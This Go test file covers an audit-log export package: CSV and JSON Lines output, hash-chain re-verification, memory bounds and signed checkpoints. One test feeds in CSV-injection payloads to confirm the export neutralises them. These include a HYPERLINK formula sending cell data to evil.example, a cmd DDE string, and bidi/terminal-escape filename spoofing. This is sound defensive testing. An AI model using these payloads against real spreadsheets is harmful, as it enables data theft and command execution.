package audit_test

import (
	"bytes"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"runtime"
	"runtime/debug"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/quarantine-console/quarantine"
	"github.com/quarantine-console/quarantine/audit"
)

// entryFromRecord reads back one exported entry (CSV columns or JSONL values
// as strings), so the test can re-hash it without the database.
func entryFromRecord(t *testing.T, r map[string]string) audit.Entry {
	t.Helper()
	seq, err := strconv.ParseInt(r["seq"], 10, 64)
	require.NoError(t, err)
	at, err := time.Parse(time.RFC3339Nano, r["at"])
	require.NoError(t, err)
	e := audit.Entry{
		Seq: seq, At: at,
		Actor:  quarantine.Actor{Issuer: r["actor_issuer"], Subject: r["actor_subject"], Email: r["actor_email"]},
		Tenant: r["tenant"], Action: r["action"], ObjectType: r["object_type"], ObjectID: r["object_id"],
		MessageID: r["message_id"], OperationID: r["operation_id"], RequestID: r["request_id"],
		Reason: r["reason"], Outcome: audit.Outcome(r["outcome"]),
		RemoteAddr: r["remote_addr"], UserAgent: r["user_agent"], HashVersion: 3,
	}
	switch r["actor_email_verified"] {
	case "":
		e.HashVersion = 1
	case "true":
		e.Actor.EmailVerified = true
	}
	// fix-audit-v3: a JSON line names its hash version; a CSV record does
	// not (its columns are fixed), and every entry these tests append is
	// of version 3.
	if v := r["hash_version"]; v != "" {
		e.HashVersion, err = strconv.Atoi(v)
		require.NoError(t, err)
	}
	// fix-audit-salt: an entry of version 3 shows its nonce, which its
	// hash covers (CSV and JSON Lines alike).
	if v := r["nonce"]; v != "" {
		e.Nonce, err = hex.DecodeString(v)
		require.NoError(t, err)
	}
	if v := r["before"]; v != "" {
		e.Before = json.RawMessage(v)
	}
	if v := r["after"]; v != "" {
		e.After = json.RawMessage(v)
	}
	if v := r["prev_hash"]; v != "" {
		e.PrevHash, err = hex.DecodeString(v)
		require.NoError(t, err)
	}
	e.Hash, err = hex.DecodeString(r["hash"])
	require.NoError(t, err)
	return e
}

func TestExport(t *testing.T) {
	t.Parallel()
	b := setup(t)
	events := fixture(t, b)
	// Text that CSV and JSON must carry unchanged.
	odd := event("odd.text")
	odd.Reason = "comma, \"quote\"\nnewline <b>&amp;</b> \u2028"
	odd.Before = map[string]string{"html": "<script>&</script>", "sep": "\u2028"}
	appendAll(t, b, odd)
	events = append(events, odd)
	head := requireIntact(t, b, int64(len(events)))

	f := audit.Filter{Tenants: []string{"acme"}, Limit: 3} // Limit is a page size: ignored
	want := newestFirst(events, func(e audit.Event) bool { return e.Tenant == "acme" })
	for i, j := 0, len(want)-1; i < j; i, j = i+1, j-1 {
		want[i], want[j] = want[j], want[i]
	}

	t.Run("CSV", func(t *testing.T) {
		t.Parallel()
		var out bytes.Buffer
		require.NoError(t, audit.ExportCSV(b.ctx, b.db.Pool, f, headOf(t, b), &out))
		// Every record as long as the header: a strict reader reads the
		// file, the trailer too.
		records, err := csv.NewReader(&out).ReadAll()
		require.NoError(t, err)
		header := records[0]
		require.Equal(t, "seq", header[0])
		trailer := make([]string, len(header))
		copy(trailer, []string{"# chain-head", strconv.FormatInt(head.HeadSeq, 10), head.HeadHex()})
		trailer[8] = `filter:tenants="acme"`
		require.Equal(t, trailer, records[len(records)-1])
		var got []int64
		var prev []byte
		for _, rec := range records[1 : len(records)-1] {
			m := map[string]string{}
			for i, name := range header {
				m[name] = fromCell(rec[i])
			}
			if prev != nil {
				require.Equal(t, hex.EncodeToString(prev), m["prev_hash"], "seq %s links to the record before", m["seq"])
			}
			if prev, _ = hex.DecodeString(m["hash"]); m["action"] == "" {
				// An entry of another tenant: a stub, its seq and hashes only.
				for _, name := range header {
					if name != "seq" && name != "prev_hash" && name != "hash" {
						require.Empty(t, m[name], "seq %s: a stub shows no %s", m["seq"], name)
					}
				}
				continue
			}
			e := entryFromRecord(t, m)
			require.Equal(t, e.Hash, audit.HashOf(&e), "seq %d re-hashes from the export alone", e.Seq)
			got = append(got, e.Seq)
		}
		require.Equal(t, want, got, "oldest first, filtered")
	})

	t.Run("JSONL", func(t *testing.T) {
		t.Parallel()
		var out bytes.Buffer
		require.NoError(t, audit.ExportJSONL(b.ctx, b.db.Pool, audit.Filter{}, headOf(t, b), &out))
		lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
		require.Len(t, lines, len(events)+1)
		require.JSONEq(t, fmt.Sprintf(`{"chain_head":{"seq":%d,"hash":%q},"export":{"filter":""}}`, head.HeadSeq, head.HeadHex()), lines[len(lines)-1])
		for i, line := range lines[:len(lines)-1] {
			var raw map[string]json.RawMessage
			require.NoError(t, json.Unmarshal([]byte(line), &raw))
			m := map[string]string{}
			for k, v := range raw {
				var s string
				if json.Unmarshal(v, &s) == nil {
					m[k] = s
				} else if string(v) != "null" {
					m[k] = string(v) // seq, before, after: the bytes as written
				}
			}
			e := entryFromRecord(t, m)
			require.Equal(t, int64(i+1), e.Seq)
			require.Equal(t, e.Hash, audit.HashOf(&e), "seq %d re-hashes from the export alone", e.Seq)
		}
	})

	t.Run("EmptyLog", func(t *testing.T) {
		t.Parallel()
		b := setup(t)
		var out bytes.Buffer
		require.NoError(t, audit.ExportJSONL(b.ctx, b.db.Pool, audit.Filter{}, headOf(t, b), &out))
		require.Equal(t, `{"chain_head":{"seq":0,"hash":""},"export":{"filter":""}}`+"\n", out.String())
		out.Reset()
		require.NoError(t, audit.ExportCSV(b.ctx, b.db.Pool, audit.Filter{}, headOf(t, b), &out))
		require.True(t, strings.HasSuffix(out.String(), "\n# chain-head,0"+strings.Repeat(",", 7)+"filter:"+strings.Repeat(",", 13)+"\n"), out.String())
	})

	t.Run("Invalid", func(t *testing.T) {
		t.Parallel()
		err := audit.ExportCSV(b.ctx, b.db.Pool, audit.Filter{Outcome: "maybe"}, headOf(t, b), io.Discard)
		require.Equal(t, quarantine.EINVALID, quarantine.ErrorCode(err), "%v", err)
	})
}

// fromCell is a CSV export's cell as docs/access.md says to read it back
// (audit.CSVValue): one leading "'" taken off, when there is one, or a
// quoted value after "'" unquoted.
func fromCell(cell string) string { return audit.CSVValue(cell) }

// TestExportCSVCellsNeverFormulas: producers (message and operation ids),
// people (reasons, user agents) and identity providers (emails) choose text
// that ends up in the audit log. No cell of a CSV export starts the way a
// spreadsheet reads as a formula (=, +, -, @, tab, carriage return), and
// every entry still re-hashes from the export once each cell's leading "'"
// is taken off.
func TestExportCSVCellsNeverFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	hostile := event("odd.formula")
	hostile.Actor.Email = "'quoted@example.com"
	hostile.Reason = `=HYPERLINK("https://evil.example/?"&A1,"open")`
	hostile.MessageID = "+1+cmd|' /C calc'!A0"
	hostile.OperationID = "-2+3"
	hostile.ObjectID, hostile.RequestID = "\tx", "\r=1"
	hostile.UserAgent = "@SUM(A1)"
	hostile.After = -5
	plain := event("odd.plain")
	plain.Reason = "'already quoted"
	// Terminal escapes and bidirectional controls are not written raw.
	plain.ObjectID = "x\x1b[2Jy\u202egnp.exe\u2066\x7f\u0085"
	plain.UserAgent = `'"quoted"`
	appendAll(t, b, hostile, plain)
	requireIntact(t, b, 2)

	var out bytes.Buffer
	require.NoError(t, audit.ExportCSV(b.ctx, b.db.Pool, audit.Filter{}, headOf(t, b), &out))
	for _, c := range []string{"\x1b", "\u202e", "\u2066", "\x7f", "\u0085"} {
		assert.NotContains(t, out.String(), c)
	}
	r := csv.NewReader(&out)
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 4, "header, two entries, trailer")
	header := records[0]
	for _, rec := range records[1:3] {
		m := map[string]string{}
		for i, name := range header {
			if cell := rec[i]; cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "column %s: %q starts like a formula", name, cell)
			}
			m[name] = fromCell(rec[i])
		}
		e := entryFromRecord(t, m)
		require.Equal(t, e.Hash, audit.HashOf(&e), "seq %d re-hashes from the export", e.Seq)
	}
	assert.Equal(t, hostile.Reason, fromCell(records[1][13]))
	assert.Equal(t, "'quoted@example.com", fromCell(records[1][4]), "a value that starts with ' keeps it")
	assert.Equal(t, "'already quoted", fromCell(records[2][13]))
	assert.Equal(t, plain.ObjectID, fromCell(records[2][9]))
	assert.Equal(t, `'"x\x1b[2Jy\u202egnp.exe\u2066\x7f\u0085"`, records[2][9], "quoted, every character past ASCII escaped")
	assert.Equal(t, plain.UserAgent, fromCell(records[2][18]), "a value that starts with '\" is not read as a quoted one")
}

// headOf is the chain's head, unsigned, as exports without a signer end.
func headOf(t *testing.T, b bundle) audit.Checkpoint {
	t.Helper()
	h, err := audit.Head(b.ctx, b.db.Pool)
	require.NoError(t, err)
	return h
}

// lineCounter counts the lines written through it and keeps the last one.
type lineCounter struct {
	bytes, lines int64
	cur, last    []byte
}

func (c *lineCounter) Write(p []byte) (int, error) {
	c.bytes += int64(len(p))
	for rest := p; len(rest) > 0; {
		i := bytes.IndexByte(rest, '\n')
		if i < 0 {
			c.cur = append(c.cur, rest...)
			break
		}
		c.cur = append(c.cur, rest[:i]...)
		c.last, c.cur = append(c.last[:0], c.cur...), c.cur[:0]
		c.lines++
		rest = rest[i+1:]
	}
	return len(p), nil
}

// heapGrowth runs fn while sampling the heap every millisecond and returns
// the highest HeapAlloc seen above the level before it, and the bytes fn
// allocated in all.
func heapGrowth(fn func()) (peak, allocated uint64) {
	// Collect often (GOGC=10 also lowers the 4 MB minimum heap to 0.4 MB),
	// so HeapAlloc follows what the export keeps rather than its garbage.
	defer debug.SetGCPercent(debug.SetGCPercent(10))
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	var (
		wg   sync.WaitGroup
		stop = make(chan struct{})
		high = before.HeapAlloc
	)
	wg.Go(func() {
		tick := time.NewTicker(time.Millisecond)
		defer tick.Stop()
		var m runtime.MemStats
		for {
			select {
			case <-stop:
				return
			case <-tick.C:
				runtime.ReadMemStats(&m)
				high = max(high, m.HeapAlloc)
			}
		}
	})
	fn()
	close(stop)
	wg.Wait()
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	high = max(high, after.HeapAlloc)
	return high - before.HeapAlloc, after.TotalAlloc - before.TotalAlloc
}

// Not parallel: it measures this process's heap, which parallel tests would
// inflate. Go runs it alone, before the parallel tests resume.
func TestAuditExportStreams(t *testing.T) {
	b := setup(t)
	const rows = 100_000
	start := time.Now()
	err := audit.BulkLoad(b.ctx, b.db.Pool, rows, func(i int) audit.Event {
		return audit.Event{
			Actor: quarantine.Actor{
				Issuer:  "https://idp.example.com/realms/operations",
				Subject: fmt.Sprintf("5f0c2b7e-9a4d-4c1e-8f3a-%012d", i%97),
				Email:   fmt.Sprintf("operator-%02d@example.com", i%97),
			},
			Tenant:      fmt.Sprintf("tenant-%02d", i%13),
			Action:      []string{"replay.request", "replay.approve", "deadletter.discard"}[i%3],
			ObjectType:  "dead_letter",
			ObjectID:    strconv.Itoa(1_000_000 + i),
			MessageID:   fmt.Sprintf("ORDERS:%d", 5_000_000+i),
			OperationID: fmt.Sprintf("op-7c9e6679-7425-40de-944b-%012d", i),
			Reason:      "consumer fixed in release 2025.06.1; replaying the backlog",
			Outcome:     audit.OutcomeOK,
			Before:      map[string]any{"status": "quarantined", "version": i % 5},
			After:       map[string]any{"status": "replay_requested", "version": i%5 + 1},
			RequestMeta: quarantine.RequestMeta{
				RequestID: fmt.Sprintf("req-01HZX3K9Q7%014d", i), RemoteAddr: "203.0.113.45",
				UserAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0",
			},
			At: t0.Add(time.Duration(i) * time.Second),
		}
	})
	require.NoError(t, err)
	t.Logf("bulk load of %d rows: %v", rows, time.Since(start))

	start = time.Now()
	res, err := audit.Verify(b.ctx, b.db.Pool, audit.VerifyOptions{})
	require.NoError(t, err)
	require.True(t, res.OK(), res.String())
	require.Equal(t, int64(rows), res.Rows)
	t.Logf("verify: %v", time.Since(start))

	// Holding the rows would take well over 30 MB (the CSV alone is ~50 MB).
	const bound = 8 << 20
	for _, tt := range []struct {
		name    string
		export  func(w io.Writer) error
		extra   int64 // lines besides the rows
		trailer func(t *testing.T, line []byte)
	}{
		{
			name:   "CSV",
			export: func(w io.Writer) error { return audit.ExportCSV(b.ctx, b.db.Pool, audit.Filter{}, headOf(t, b), w) },
			extra:  2, // header and trailer
			trailer: func(t *testing.T, line []byte) {
				require.Equal(t, fmt.Sprintf("# chain-head,%d,%s", res.HeadSeq, res.HeadHex())+strings.Repeat(",", 6)+"filter:"+strings.Repeat(",", 13), string(line))
			},
		},
		{
			name:   "JSONL",
			export: func(w io.Writer) error { return audit.ExportJSONL(b.ctx, b.db.Pool, audit.Filter{}, headOf(t, b), w) },
			extra:  1, // trailer
			trailer: func(t *testing.T, line []byte) {
				var tr struct {
					ChainHead struct {
						Seq  int64  `json:"seq"`
						Hash string `json:"hash"`
					} `json:"chain_head"`
				}
				require.NoError(t, json.Unmarshal(line, &tr))
				require.Equal(t, res.HeadSeq, tr.ChainHead.Seq)
				require.Equal(t, res.HeadHex(), tr.ChainHead.Hash)
			},
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var (
				out       lineCounter
				exportErr error
			)
			start := time.Now()
			peak, allocated := heapGrowth(func() {
				exportErr = tt.export(&out)
			})
			require.NoError(t, exportErr)
			elapsed := time.Since(start)
			t.Logf("%s export: %d rows, %.1f MB written in %v; peak heap growth %.2f MB, %.0f MB allocated in all",
				tt.name, rows, float64(out.bytes)/(1<<20), elapsed, float64(peak)/(1<<20), float64(allocated)/(1<<20))
			require.Less(t, peak, uint64(bound), "the export holds rows in memory")
			require.Greater(t, out.bytes, int64(30<<20), "the output is bigger than the bound")
			require.Equal(t, int64(rows)+tt.extra, out.lines)
			tt.trailer(t, out.last)
		})
	}
}

// TestExportEndsAtTheCheckpointAfterItsLastEntry: a filtered export of an
// old range runs to the first checkpoint signed with the console's key at
// or after its last entry, not to the head: the log past it (every newer
// entry, as a stub) is not in the file. A checkpoint signed with another
// key, and one inserted by the runtime role under the console's key id
// whose signature does not verify, are passed over; the file verifies
// against the checkpoint it ends at.
func TestExportEndsAtTheCheckpointAfterItsLastEntry(t *testing.T) {
	t.Parallel()
	b := setup(t)
	signer, other := newSigner(t), newSigner(t)
	keys := audit.NewKeySet(signer.PublicKey())
	globex := func(action string) audit.Event {
		e := event(action)
		e.Tenant = "globex"
		return e
	}
	appendAll(t, b, event("old.one"), globex("old.other"), event("old.two")) // seqs 1 to 3
	foreign, err := audit.Record(b.ctx, b.db.Pool, other, audit.ReasonOnDemand)
	require.NoError(t, err)
	require.Equal(t, int64(3), foreign.Seq, "signed with a key that is not the console's")
	forged := appendAll(t, b, globex("later"))[0] // seq 4
	_, err = b.db.Pool.Exec(b.ctx, `INSERT INTO audit_checkpoints (seq, hash, at, reason, key_id, public_key, signature)
        VALUES ($1, $2, now(), 'count', $3, $4, sha512('s'))`, forged.Seq, forged.Hash, signer.KeyID(), []byte(signer.PublicKey()))
	require.NoError(t, err, "the runtime role inserts a checkpoint whose signature does not verify")
	appendAll(t, b, globex("later"))
	genuine, err := audit.Record(b.ctx, b.db.Pool, signer, audit.ReasonCount)
	require.NoError(t, err)
	require.Equal(t, int64(5), genuine.Seq)
	newer := make([]audit.Event, 50)
	for i := range newer {
		newer[i] = globex("newer")
	}
	appendAll(t, b, newer...)
	head, err := audit.Record(b.ctx, b.db.Pool, signer, audit.ReasonExport)
	require.NoError(t, err)
	require.Equal(t, int64(55), head.Seq)

	acme := audit.Filter{Tenants: []string{"acme"}}
	end, err := audit.ExportEnd(b.ctx, b.db.Pool, acme, head, keys)
	require.NoError(t, err)
	assert.Equal(t, genuine, end, "the first checkpoint after seq 3 that verifies with the console's key")

	var out bytes.Buffer
	require.NoError(t, audit.ExportJSONLSigned(b.ctx, b.db.Pool, acme, end, signer, &out))
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	assert.Len(t, lines, 6, "seqs 1 to 5 and the trailer, none of the 50 entries past the checkpoint")
	assert.Contains(t, lines[5], `"chain_head":{"seq":5,`)
	res, err := audit.VerifyExport(strings.NewReader(out.String()), keys)
	require.NoError(t, err)
	require.True(t, res.OK(), res.String())
	assert.True(t, res.Signed)
	assert.Equal(t, int64(5), res.Head.Seq)
	assert.Equal(t, int64(2), res.Entries)
	assert.Equal(t, int64(3), res.LeftOut)

	var csvOut bytes.Buffer
	require.NoError(t, audit.ExportCSV(b.ctx, b.db.Pool, acme, end, &csvOut))
	r := csv.NewReader(&csvOut)
	records, err := r.ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 7, "header, seqs 1 to 5, trailer")
	assert.Equal(t, []string{"# chain-head", "5", genuine.HashHex()}, records[6][:3])

	t.Run("LastEntryPastTheLastCheckpoint", func(t *testing.T) {
		end, err := audit.ExportEnd(b.ctx, b.db.Pool, audit.Filter{Action: "newer"}, head, keys)
		require.NoError(t, err)
		assert.Equal(t, head, end)
		end, err = audit.ExportEnd(b.ctx, b.db.Pool, audit.Filter{}, head, keys)
		require.NoError(t, err)
		assert.Equal(t, head, end)
	})
	t.Run("LastEntryAtACheckpoint", func(t *testing.T) {
		end, err := audit.ExportEnd(b.ctx, b.db.Pool, audit.Filter{Action: "later"}, head, keys)
		require.NoError(t, err)
		assert.Equal(t, genuine, end, "seq 5 is selected and signed")
	})
	t.Run("NothingSelected", func(t *testing.T) {
		end, err := audit.ExportEnd(b.ctx, b.db.Pool, audit.Filter{Action: "none"}, head, keys)
		require.NoError(t, err)
		assert.Equal(t, head, end)
	})
	t.Run("OnlyTheForgedOneBetween", func(t *testing.T) {
		// Seq 4 is the last entry selected: the forged checkpoint is at
		// it, the genuine one after it.
		end, err := audit.ExportEnd(b.ctx, b.db.Pool, audit.Filter{Action: "later", Before: 5}, head, keys)
		require.NoError(t, err)
		assert.Equal(t, genuine, end)
	})
	t.Run("AnotherKey", func(t *testing.T) {
		end, err := audit.ExportEnd(b.ctx, b.db.Pool, acme, head, audit.NewKeySet(other.PublicKey()))
		require.NoError(t, err)
		assert.Equal(t, foreign, end, "the same rule with the other key: its checkpoint at seq 3")
	})
}
